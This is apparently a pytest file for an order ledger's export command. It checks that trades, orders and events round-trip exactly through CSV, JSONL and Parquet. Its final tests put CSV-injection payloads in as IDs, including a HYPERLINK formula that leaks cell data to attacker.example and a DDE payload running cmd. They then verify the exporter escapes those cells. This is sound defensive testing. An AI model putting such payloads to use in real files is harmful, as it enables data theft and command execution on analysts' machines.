"""Export for analytics: ``export trades|orders|events --format csv|jsonl|parquet --out PATH``.

Each file is read back with the plain tools an analyst would use (``csv``, ``json``,
``pyarrow.parquet``) and compared field by field with what the queries print (``trades --json``,
``orders --json``, ``events --json``). Amounts stay exact: decimal text in csv and jsonl (``"0.50"``,
``"0.0100"`` and ``"-0.002"`` come back with the digits they were sent with), Parquet DECIMAL
columns of 12 places (the same values), times Parquet UTC timestamps.

The session (venue times T0 + seconds):

    e1: buy 1.50 BTC-USD at 100.10 (tags strategy=mm, desk=Zürich); accepted as VO-1;
        t1 0.50 at 100.10 (fee 0.0100 USD, maker); t2 1.00 at 100.05 (fee -0.002 USD, taker)
    e2: sell 2 ETH-USD at 10.5 (acc2, V2); t3 2 at 10.5 naming VO-2 (implied ack); t3 busted
    e3: buy 1 BTC-USD at 99; canceled; then t4 0.25 at 99 arrives: a late fill

Three trades stand (t1, t2, t4; t3 was busted), three orders, and eleven events.
"""

from __future__ import annotations

import csv
import json
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from orderledger.infrastructure.application.ledger import OrderLedger
from orderledger.infrastructure.audit.columns import COLUMN_TYPES, DERIVED
from tests.support.audit import Clock, Recorder, fact, fill, orderledger, request


@pytest.fixture(params=("sqlite", "postgres"))
def backend(request: pytest.FixtureRequest) -> str:
    """The commands run on the backends another process can share (SQLite file, PostgreSQL)."""
    return str(request.param)


@pytest.fixture
def session(file_ledger_url: str) -> str:
    clock = Clock()
    ledger = OrderLedger(file_ledger_url, clock=clock)
    try:
        report = Recorder(ledger, clock).at(
            60,
            request(
                "e1", seconds=0, quantity="1.50", price="100.10", tags={"strategy": "mm", "desk": "Zürich"}
            ),
            fact("accepted", "e1", seconds=1, venue_order_id="VO-1"),
            fill(
                "e1", "t1", "0.50", "100.10", seconds=2, fee="0.0100", fee_currency="USD", liquidity="maker"
            ),
            fill(
                "e1", "t2", "1.00", "100.05", seconds=3, fee="-0.002", fee_currency="USD", liquidity="taker"
            ),
            request(
                "e2",
                seconds=4,
                account="acc2",
                venue="V2",
                instrument="ETH-USD",
                side="sell",
                quantity="2",
                price="10.5",
            ),
            fill("e2", "t3", "2", "10.5", seconds=5, venue_order_id="VO-2"),
            fact("fill_busted", "e2", seconds=6, trade_id="t3", reason="erroneous"),
            request("e3", seconds=7, quantity="1", price="99"),
            fact("canceled", "e3", seconds=8, reason="user"),
            fill("e3", "t4", "0.25", "99", seconds=9),
        )
        assert (report.counts["applied"], report.events) == (10, 11)
    finally:
        ledger.close()
    return file_ledger_url


def _query(db: str, what: str) -> list[dict[str, Any]]:
    if what == "events":
        return orderledger("events", "--json", db=db).json_lines()
    rows: list[dict[str, Any]] = orderledger(what, "--json", db=db).json()
    return rows


def _export(db: str, what: str, fmt: str, out: Path, count: int) -> Path:
    run = orderledger("export", what, "--format", fmt, "--out", str(out), db=db)
    assert run.code == 0 and run.stderr == "", run.describe()
    assert run.stdout == f"wrote {count} {what} to {out} ({fmt})\n"
    return out


def _as_text(value: Any) -> str:
    """How a CSV cell shows a query value: empty for null, JSON for objects and lists."""
    if value is None:
        return ""
    if isinstance(value, dict | list):
        return json.dumps(value, ensure_ascii=False, sort_keys=True)
    return str(value)


def _as_parquet(column: str, value: Any) -> Any:
    """How a Parquet cell holds a query value: decimals as Decimal and times as UTC datetimes
    (``columns.COLUMN_TYPES``), the derived figures (``columns.DERIVED``) rounded half-even to
    their 12 places; objects and lists as JSON text; the rest as is."""
    if value is None:
        return None
    if column in DERIVED:
        return Decimal(value).quantize(Decimal("1e-12"))
    if column in COLUMN_TYPES:
        return datetime.fromisoformat(value) if COLUMN_TYPES[column] == "TIMESTAMPTZ" else Decimal(value)
    if isinstance(value, dict | list):
        return json.dumps(value, ensure_ascii=False, sort_keys=True)
    return value


HAND_CHECKED: dict[str, tuple[int, str, dict[Any, dict[str, Any]]]] = {
    # what → (rows, the key of a row, {key: {field: value}} worked out from the session by hand)
    "trades": (
        3,
        "trade_id",
        {
            "t1": {
                "quantity": "0.50",
                "price": "100.10",
                "fee": "0.0100",
                "liquidity": "maker",
                "late": False,
            },
            "t2": {
                "quantity": "1.00",
                "price": "100.05",
                "fee": "-0.002",
                "liquidity": "taker",
                "late": False,
            },
            "t4": {"quantity": "0.25", "price": "99", "fee": None, "client_order_id": "e3", "late": True},
        },
    ),
    "orders": (
        3,
        "client_order_id",
        {
            # (0.50 × 100.10 + 1.00 × 100.05) / 1.50 = 150.10 / 1.5 = 100.0666…, to 28 digits
            "e1": {
                "quantity": "1.50",
                "filled_quantity": "1.50",
                "average_price": "100.0666666666666666666666666666667",
            },
            "e2": {"status": "accepted", "filled_quantity": "0", "venue_order_ids": ["VO-2"], "version": 4},
            "e3": {"status": "canceled", "filled_quantity": "0.25", "anomalies": ["late_fill"], "version": 3},
        },
    ),
    "events": (
        11,
        "position",
        {
            3: {"type": "OrderFilled", "client_order_id": "e1", "version": 3, "message_id": 3},
            6: {"type": "OrderAccepted", "client_order_id": "e2", "message_id": 6},  # implied by t3
            7: {"type": "OrderFilled", "client_order_id": "e2", "message_id": 6},
            8: {
                "type": "FillBusted",
                "account": "acc2",
                "venue": "V2",
                "instrument": "ETH-USD",
                "message_id": 7,
            },
            11: {"type": "OrderFilled", "client_order_id": "e3", "version": 3, "message_id": 10},
        },
    ),
}


@pytest.mark.parametrize("what", ["trades", "orders", "events"])
def test_each_export_holds_what_the_query_prints(session: str, tmp_path: Path, what: str) -> None:
    expected = _query(session, what)
    count, key, by_hand = HAND_CHECKED[what]
    assert len(expected) == count
    rows = {row[key]: row for row in expected}
    for name, fields in by_hand.items():
        assert {f: rows[name][f] for f in fields} == fields, name
    columns = list(expected[0])

    jsonl = _export(session, what, "jsonl", tmp_path / f"{what}.jsonl", count)
    assert [json.loads(text) for text in jsonl.read_text(encoding="utf-8").splitlines()] == expected

    with _export(session, what, "csv", tmp_path / f"{what}.csv", count).open(
        encoding="utf-8", newline=""
    ) as handle:
        reader = csv.DictReader(handle)
        assert reader.fieldnames == columns
        from_csv = list(reader)
    assert len(from_csv) == count
    for want, got in zip(expected, from_csv, strict=True):
        for column in columns:
            assert got[column] == _as_text(want[column]), (want[key], column)

    table = pq.read_table(_export(session, what, "parquet", tmp_path / f"{what}.parquet", count))
    assert table.column_names == columns
    from_parquet = table.to_pylist()
    for want, got in zip(expected, from_parquet, strict=True):
        for column in columns:
            assert got[column] == _as_parquet(column, want[column]), (want[key], column)
    if what == "orders":
        # (0.50 × 100.10 + 1.00 × 100.05) / 1.50 = 100.0666…: 100.066666666667 to 12 places
        assert {r["client_order_id"]: r["average_price"] for r in from_parquet}["e1"] == Decimal(
            "100.066666666667"
        )
    # Quantities and prices are decimals of 12 places, money of 18, never floats; times UTC;
    # counters integers; flags booleans.
    types = {field.name: field.type for field in table.schema}
    amounts = {
        "trades": ["quantity", "price"],
        "orders": ["quantity", "price", "filled_quantity", "average_price"],
    }
    for column in amounts.get(what, []):
        assert types[column] == pa.decimal128(38, 12), column
    if what == "trades":
        assert types["fee"] == pa.decimal128(38, 18)
    assert types["ts_event" if what != "orders" else "created_at"] == pa.timestamp("us", tz="UTC")
    if what == "trades":
        assert types["late"] == pa.bool_()
    if what == "orders":
        assert (types["version"], types["external"]) == (pa.int64(), pa.bool_())
    if what == "events":
        assert (types["position"], types["version"], types["message_id"], types["payload"]) == (
            pa.int64(),
            pa.int64(),
            pa.int64(),
            pa.string(),
        )


def test_exported_payloads_keep_exact_decimals(session: str, tmp_path: Path) -> None:
    table = pq.read_table(_export(session, "events", "parquet", tmp_path / "events.parquet", 11))
    payloads = {row["position"]: json.loads(row["payload"]) for row in table.to_pylist()}
    assert (payloads[3]["last_qty"], payloads[3]["last_px"], payloads[3]["fee"]) == (
        "0.50",
        "100.10",
        "0.0100",
    )
    assert (payloads[4]["last_qty"], payloads[4]["fee"]) == ("1.00", "-0.002")
    assert (payloads[8]["trade_id"], payloads[8]["last_qty"], payloads[8]["reason"]) == (
        "t3",
        "2",
        "erroneous",
    )
    with _export(session, "trades", "csv", tmp_path / "trades.csv", 3).open(
        encoding="utf-8", newline=""
    ) as handle:
        fees = [row["fee"] for row in csv.DictReader(handle)]
    assert fees == ["0.0100", "-0.002", ""]


def test_export_refuses_what_it_cannot_write(session: str, tmp_path: Path) -> None:
    assert "--format must be csv, jsonl or parquet, not 'xlsx'" in orderledger(
        "export", "trades", "--format", "xlsx", "--out", str(tmp_path / "t.xlsx"), db=session
    ).one_line_failure(2)
    assert "export trades, orders, events, lots or closed-lots, not 'fills'" in orderledger(
        "export", "fills", "--out", str(tmp_path / "f.csv"), db=session
    ).one_line_failure(2)
    assert "--out PATH is required" in orderledger("export", "trades", db=session).one_line_failure(2)


def test_export_to_a_path_it_cannot_write_is_bad_input(session: str, tmp_path: Path) -> None:
    out = tmp_path / "missing" / "trades.csv"
    line = orderledger("export", "trades", "--format", "csv", "--out", str(out), db=session).one_line_failure(
        2
    )
    assert "internal error" not in line, line


# Cells a spreadsheet would run: each ID starts with one of = + - @ (OWASP's CSV injection list;
# tab and carriage return cannot start an ID: they are control characters, refused on input).
HOSTILE = {
    "client_order_id": '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    "trade_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "instrument": "+BTC-USD",
    "account": "-2+3",
}


@pytest.fixture
def hostile(file_ledger_url: str) -> str:
    """One order and one fill whose IDs a spreadsheet would evaluate; the fee is negative (a rebate)."""
    with OrderLedger(file_ledger_url) as ledger:
        for message in (
            request(
                HOSTILE["client_order_id"],
                seconds=0,
                account=HOSTILE["account"],
                instrument=HOSTILE["instrument"],
                quantity="2",
            ),
            fill(
                HOSTILE["client_order_id"],
                HOSTILE["trade_id"],
                "2",
                "100",
                seconds=1,
                fee="-0.5",
                fee_currency="USD",
            ),
        ):
            assert ledger.record(message).outcome == "applied", message
    return file_ledger_url


def _csv_rows(db: str, what: str, out: Path, *extra: str) -> list[dict[str, str]]:
    run = orderledger("export", what, "--format", "csv", "--out", str(out), *extra, db=db)
    assert run.code == 0, run.describe()
    with out.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(hostile: str, tmp_path: Path) -> None:
    [trade] = _csv_rows(hostile, "trades", tmp_path / "trades.csv")
    [order] = _csv_rows(hostile, "orders", tmp_path / "orders.csv")

    for row in (trade, order):
        for column in ("client_order_id", "instrument", "account"):
            # a leading ' makes the cell text: shown as stored, never evaluated
            assert row[column] == "'" + HOSTILE[column], column
    assert trade["trade_id"] == "'" + HOSTILE["trade_id"]
    # a number as the ledger writes it is a number to the spreadsheet too: kept exact, unquoted
    assert (trade["fee"], trade["quantity"], trade["price"]) == ("-0.5", "2", "100")
    assert not any(cell.startswith(("=", "+", "@")) for row in (trade, order) for cell in row.values())
    assert not any(
        cell.startswith("-") and not cell.replace(".", "").lstrip("-").isdigit()
        for row in (trade, order)
        for cell in row.values()
    )


def test_raw_csv_and_jsonl_keep_every_cell_as_stored(hostile: str, tmp_path: Path) -> None:
    [trade] = _csv_rows(hostile, "trades", tmp_path / "trades.csv", "--raw")
    assert {column: trade[column] for column in HOSTILE} == HOSTILE
    assert trade["fee"] == "-0.5"

    run = orderledger("export", "trades", "--format", "jsonl", "--out", str(tmp_path / "t.jsonl"), db=hostile)
    assert run.code == 0, run.describe()
    [row] = [json.loads(line) for line in (tmp_path / "t.jsonl").read_text(encoding="utf-8").splitlines()]
    assert {column: row[column] for column in HOSTILE} == HOSTILE
    assert "--raw goes with --format csv" in orderledger(
        "export", "trades", "--format", "jsonl", "--raw", "--out", str(tmp_path / "r.jsonl"), db=hostile
    ).one_line_failure(2)
